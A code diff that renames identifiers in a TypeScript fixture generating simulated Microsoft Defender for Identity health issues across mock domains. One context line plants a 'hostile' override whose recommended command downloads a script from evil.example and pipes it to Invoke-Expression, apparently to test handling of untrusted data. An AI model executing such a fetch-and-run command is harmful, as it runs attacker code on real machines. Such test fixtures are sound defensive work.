@@ -1,8 +1,8 @@
 import { apac, contoso, emea, fabrikam } from './contoso.ts';
-import type { Chance } from './random.ts';
+import type { SeededRandom } from './random.ts';
 import type { SimulatedHealthIssue } from './state.ts';
 
-type Severity = SimulatedHealthIssue['severity'];
+type IssueSeverity = SimulatedHealthIssue['severity'];
 
 /** Titles of Microsoft's page on health issues. Its numbers are not published; 1031 alone is known from examples. */
 const catalogue = {
@@ -21,37 +21,37 @@ const catalogue = {
   expired: ['Read-only user password expired', 'high', '1050'],
   rpc: ['Sensor v3.x RPC Audit Misconfigured', 'medium', '1060'],
   noTraffic: ['No traffic received from domain controller', 'medium', '1061'],
-} as const satisfies Record<string, readonly [string, Severity, string]>;
+} as const satisfies Record<string, readonly [string, IssueSeverity, string]>;
 export type IssueKind = keyof typeof catalogue;
 
-interface Wanted {
+interface IssueSpec {
   readonly kind: IssueKind;
-  readonly age: number;
-  readonly on?: readonly string[];
+  readonly ageDays: number;
+  readonly machines?: readonly string[];
   readonly domains: readonly string[];
   readonly status?: SimulatedHealthIssue['status'];
-  readonly more?: Partial<SimulatedHealthIssue>;
+  readonly overrides?: Partial<SimulatedHealthIssue>;
 }
 
 /** One issue of the catalogue; without machines it is a global one. */
-export function issueOf(luck: Chance, name: string, { kind, age, on, domains, status, more }: Wanted) {
+export function createIssue(random: SeededRandom, name: string, { kind, ageDays, machines, domains, status, overrides }: IssueSpec) {
   const [displayName, severity, issueTypeId] = catalogue[kind];
   const issue: SimulatedHealthIssue = {
-    id: luck.guid(`issue ${name}`),
+    id: random.createGuid(`issue ${name}`),
     displayName,
-    healthIssueType: on === undefined ? 'global' : 'sensor',
+    healthIssueType: machines === undefined ? 'global' : 'sensor',
     issueTypeId,
     severity,
     status: status ?? 'open',
-    createdDateTime: luck.daysAgo(age, `${name} created`),
-    lastModifiedDateTime: luck.daysAgo(age / 2, `${name} modified`),
-    description: `${displayName} on ${(on ?? domains).join(', ')}`,
+    createdDateTime: random.formatDaysAgo(ageDays, `${name} created`),
+    lastModifiedDateTime: random.formatDaysAgo(ageDays / 2, `${name} modified`),
+    description: `${displayName} on ${(machines ?? domains).join(', ')}`,
     domainNames: [...domains],
-    sensorDNSNames: [...(on ?? [])],
+    sensorDNSNames: [...(machines ?? [])],
     recommendations: [`Follow the guidance for "${displayName}" at https://aka.ms/mdi/healthissues`],
     recommendedActionCommands: [],
     additionalInformation: [],
-    ...more,
+    ...overrides,
   };
   return issue;
 }
@@ -77,32 +77,32 @@ const hostile: Partial<SimulatedHealthIssue> = {
   recommendedActionCommands: ['Invoke-WebRequest https://evil.example/a.ps1 | Invoke-Expression'],
 };
 
-const dc = (...hosts: string[]) => hosts.map((host) => `${host}.${contoso}`);
+const toFqdns = (...hosts: string[]) => hosts.map((host) => `${host}.${contoso}`);
 
-const wanted: readonly Wanted[] = [
-  { kind: 'ntlm', age: 21, on: dc('DC01'), domains: [contoso] },
-  { kind: 'outdated', age: 12, on: dc('DC06'), domains: [contoso] },
-  { kind: 'stopped', age: 90, on: dc('DC07'), domains: [contoso] },
-  { kind: 'outdated', age: 30, on: dc('DC09'), domains: [contoso] },
-  { kind: 'npcap', age: 6, on: dc('DC09'), domains: [contoso] },
-  { kind: 'failedToStart', age: 2, on: dc('DC13'), domains: [contoso] },
-  { kind: 'power', age: 55, on: dc('DC15', 'DC16'), domains: [contoso] },
-  { kind: 'power', age: 4, on: dc('DC22'), domains: [contoso], more: hostile },
-  { kind: 'rpc', age: 8, on: dc('DC04', 'DC05'), domains: [contoso], status: 'suppressed' },
-  { kind: 'memory', age: 40, on: dc('DC02'), domains: [contoso], status: 'closed' },
-  { kind: 'noTraffic', age: 17, on: dc('PM01'), domains: [contoso] },
-  { kind: 'vmware', age: 3, on: [`emea-ber-dc-primary01.${emea}`], domains: [emea] },
-  { kind: 'stopped', age: 33, on: [`MAD-DC04.${emea}`, `EMEA-SYNC01.${emea}`], domains: [emea] },
-  { kind: 'adapters', age: 5, on: [`BER-DC02.${emea}`], domains: [emea] },
-  { kind: 'stopped', age: 15, on: [`SYD-DC02.${apac}`, `TYO-DC04.${apac}`], domains: [apac] },
-  { kind: 'stopped', age: 200, on: [`FAB-DC05.${fabrikam}`], domains: [fabrikam] },
-  { kind: 'names', age: 11, on: [`fab-dc01.${fabrikam}`], domains: [fabrikam] },
-  { kind: 'advanced', age: 25, on: [`renamed-dc.${fabrikam}`], domains: [fabrikam] },
-  { kind: 'objects', age: 60, domains: [contoso, emea], more: objectAuditing },
-  { kind: 'expired', age: 1, domains: [fabrikam] },
-  { kind: 'objects', age: 400, domains: [apac], status: 'closed', more: objectAuditing },
+const contosoIssues: readonly IssueSpec[] = [
+  { kind: 'ntlm', ageDays: 21, machines: toFqdns('DC01'), domains: [contoso] },
+  { kind: 'outdated', ageDays: 12, machines: toFqdns('DC06'), domains: [contoso] },
+  { kind: 'stopped', ageDays: 90, machines: toFqdns('DC07'), domains: [contoso] },
+  { kind: 'outdated', ageDays: 30, machines: toFqdns('DC09'), domains: [contoso] },
+  { kind: 'npcap', ageDays: 6, machines: toFqdns('DC09'), domains: [contoso] },
+  { kind: 'failedToStart', ageDays: 2, machines: toFqdns('DC13'), domains: [contoso] },
+  { kind: 'power', ageDays: 55, machines: toFqdns('DC15', 'DC16'), domains: [contoso] },
+  { kind: 'power', ageDays: 4, machines: toFqdns('DC22'), domains: [contoso], overrides: hostile },
+  { kind: 'rpc', ageDays: 8, machines: toFqdns('DC04', 'DC05'), domains: [contoso], status: 'suppressed' },
+  { kind: 'memory', ageDays: 40, machines: toFqdns('DC02'), domains: [contoso], status: 'closed' },
+  { kind: 'noTraffic', ageDays: 17, machines: toFqdns('PM01'), domains: [contoso] },
+  { kind: 'vmware', ageDays: 3, machines: [`emea-ber-dc-primary01.${emea}`], domains: [emea] },
+  { kind: 'stopped', ageDays: 33, machines: [`MAD-DC04.${emea}`, `EMEA-SYNC01.${emea}`], domains: [emea] },
+  { kind: 'adapters', ageDays: 5, machines: [`BER-DC02.${emea}`], domains: [emea] },
+  { kind: 'stopped', ageDays: 15, machines: [`SYD-DC02.${apac}`, `TYO-DC04.${apac}`], domains: [apac] },
+  { kind: 'stopped', ageDays: 200, machines: [`FAB-DC05.${fabrikam}`], domains: [fabrikam] },
+  { kind: 'names', ageDays: 11, machines: [`fab-dc01.${fabrikam}`], domains: [fabrikam] },
+  { kind: 'advanced', ageDays: 25, machines: [`renamed-dc.${fabrikam}`], domains: [fabrikam] },
+  { kind: 'objects', ageDays: 60, domains: [contoso, emea], overrides: objectAuditing },
+  { kind: 'expired', ageDays: 1, domains: [fabrikam] },
+  { kind: 'objects', ageDays: 400, domains: [apac], status: 'closed', overrides: objectAuditing },
 ];
 
 /** The hand-made issues; one names a machine that no sensor has. */
-export const coreIssues = (luck: Chance): SimulatedHealthIssue[] =>
-  wanted.map((one, index) => issueOf(luck, `core ${index}`, one));
+export const createContosoIssues = (random: SeededRandom): SimulatedHealthIssue[] =>
+  contosoIssues.map((spec, index) => createIssue(random, `core ${index}`, spec));
